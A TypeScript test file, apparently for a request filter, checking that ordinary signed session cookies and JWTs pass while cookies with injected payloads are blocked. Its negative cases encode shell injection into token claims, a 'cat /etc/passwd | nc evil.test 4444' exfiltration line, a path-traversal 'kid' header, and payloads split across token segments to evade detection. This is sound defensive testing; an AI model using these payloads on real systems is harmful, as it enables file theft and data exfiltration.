// What people write and programs send every day, each beside what it must not be mistaken for.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { blockedBy } from '../../corpora/report/default-set.ts';

test('the signature of a token is bytes of chance, and no words behind those of its claims', () => {
  const part = (text: string | Buffer) => Buffer.from(text).toString('base64url');
  const head = part('{"alg":"HS256","typ":"JWT"}');
  const claims = part('{"iss":"https://auth.example.com/","scope":"openid profile email"}');
  const cookie = (...parts: string[]) => ({ target: '/', headers: ['Cookie', `sid=${parts.join('.')}`] });
  for (let seed = 0; seed < 2000; seed++) {
    const bytes = createHash('sha256').update(`${seed}`).digest();
    assert.equal(blockedBy(cookie(head, claims, part(bytes))), '', part(bytes));
  }
  for (const signed of [
    'eyJ1aWQiOjEyLCJsYW5nIjoiZGUifQ.RJzS4A.TTm0cXrlDZEvHbDdf7D3uq5VAcA',
    'eyJzZXNzaW9uX2lkIjoiZDAxYzc4ZTE1ZGFhMDg4MDE3NzhjODgwNzM1ODIxYTYiLCJfY3NyZl90b2tlbiI6InNnWVVWV21yWVc2SEpHL1VFbmJCOFVVdVk0d0YxTVdTQ0xJbWltNmFVZTQ9In0%3D--7d32a2d86254cf6b36ea6c03a6f38c1c0f09b85d',
  ])
    assert.equal(blockedBy(cookie(signed)), '', signed);
  for (const parts of [
    [head, part('{"sub":"x;cat /etc/passwd"}'), part(createHash('sha256').digest())],
    [head, claims, part('; cat /etc/passwd | nc evil.test 4444')],
    [part('{"alg":"HS256","kid":"../../../../etc/passwd"}'), claims, claims],
    [part('{"a":1};cat '), part('/etc/pas'), part('swd | nc evil.test 4444')],
    [.../^(.{7})(.{13})(.*)$/.exec(part('{"a":1};cat /etc/passwd | nc evil.test 4444'))!.slice(1)],
  ])
    assert.notEqual(blockedBy(cookie(...parts)), '', parts.join('.'));
});
